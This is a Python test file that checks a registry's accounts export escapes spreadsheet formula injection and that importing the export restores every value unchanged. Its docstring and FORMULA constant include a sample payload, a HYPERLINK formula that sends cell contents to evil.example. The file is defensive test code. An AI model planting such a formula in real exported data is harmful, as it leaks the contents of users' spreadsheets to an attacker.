"""`accounts export` neutralises spreadsheet formulas (issue 14, item 7), as the report does.

The attack: a registry cell that a spreadsheet runs as a formula (an owner name of
``=HYPERLINK("https://evil.example/?"&A1,"Click")``, a note starting with ``+``, ``-`` or
``@``) reaches a supervisor's spreadsheet through the export. Exported, every such cell
starts with an apostrophe, which spreadsheets show as text; imported again, the apostrophe
goes, so export, edit and import still give back what was there.
"""

from __future__ import annotations

import csv
import io

import pytest

from monitor.storage.models import Account
from tests.unit.monitor.registry.test_registry import ACCOUNTS, export, load, seed

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1 604 555 0100", "'+1 604 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("Sam Lee", "Sam Lee"),  # negatives: ordinary text is left alone
        ("Grade 3 = fun", "Grade 3 = fun"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_a_cell_is_written_safe_for_a_spreadsheet_and_read_back_the_same(cell, written):
    from monitor.core.display import from_spreadsheet_cell, spreadsheet_cell

    assert spreadsheet_cell(cell) == written
    assert from_spreadsheet_cell(written) == cell


def test_accounts_export_neutralises_formulas_and_imports_back_unchanged(db):
    seed(db)
    load(db, "accounts", ACCOUNTS)
    account = db.query(Account).filter_by(key="riv-fb").one()
    account.owner_name, account.notes = FORMULA, "-retired in June"
    db.commit()
    text = export(db, "accounts")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["riv-fb"]["owner_name"] == "'" + FORMULA
    assert rows["riv-fb"]["notes"] == "'-retired in June"
    assert not any(
        value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values()
    )
    result = load(db, "accounts", text)
    assert result.updated == 0 and result.unchanged == 3
    db.refresh(account)
    assert account.owner_name == FORMULA and account.notes == "-retired in June"
